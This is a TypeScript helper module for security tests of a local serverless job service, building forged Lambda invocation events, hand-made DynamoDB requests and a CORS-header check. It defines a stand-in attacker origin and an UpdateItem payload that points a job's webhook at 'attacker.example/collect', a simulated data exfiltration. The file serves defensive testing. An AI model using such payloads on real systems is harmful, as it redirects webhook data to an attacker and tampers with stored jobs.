/**
 * What the security tests share: the page a browser request comes from, the requests such a page (or a
 * script without the stack's credentials) builds by hand, and how to spot a CORS header.
 */
import { toHttpApiEvent } from '../../../../local/api-front/event.ts';
import { tableName } from '../../../../shared/tables.ts';

/** The web page an attack comes from. */
export const PAGE = 'https://attacker.example';
export const JOBS = tableName('local', 'jobs');
export const API_FUNCTION = 'tickwork-local-api';
/** The webhook URL of promptJob(), which the attacks try to rewrite. */
export const ORIGINAL_URL = 'http://127.0.0.1:9/hooks/tickwork';

export function invocationsUrl(lambdaEndpoint: string): string {
  return `${lambdaEndpoint}/2015-03-31/functions/${API_FUNCTION}/invocations`;
}

/** The API Gateway v2 event the API function would get for `DELETE /jobs/<name>`. */
export function deleteEvent(name: string): string {
  return JSON.stringify(
    toHttpApiEvent({
      method: 'DELETE',
      url: `/jobs/${name}`,
      httpVersion: '1.1',
      headers: { host: ['127.0.0.1'] },
      body: Buffer.alloc(0),
      sourceIp: '127.0.0.1',
      requestId: 'forged',
      time: new Date(),
      accountId: '000000000000',
      apiId: 'local',
      fallbackDomainName: '127.0.0.1',
    }),
  );
}

export function accessControlHeaders(response: Response): string[] {
  return [...response.headers.keys()].filter((name) => name.startsWith('access-control-'));
}

/** A DynamoDB JSON 1.0 request as a page or a script builds it by hand. */
export function dynamoRequest(
  operation: string,
  body: unknown,
): { headers: Record<string, string>; body: string } {
  return {
    headers: {
      'content-type': 'application/x-amz-json-1.0',
      'x-amz-target': `DynamoDB_20120810.${operation}`,
    },
    body: JSON.stringify(body),
  };
}

/** UpdateItem input that points a job's webhook at the attacker. */
export function rewriteUrl(name: string) {
  return {
    TableName: JOBS,
    Key: { name: { S: name } },
    UpdateExpression: 'SET config.target.#url = :url',
    ExpressionAttributeNames: { '#url': 'url' },
    ExpressionAttributeValues: { ':url': { S: `${PAGE}/collect` } },
  };
}
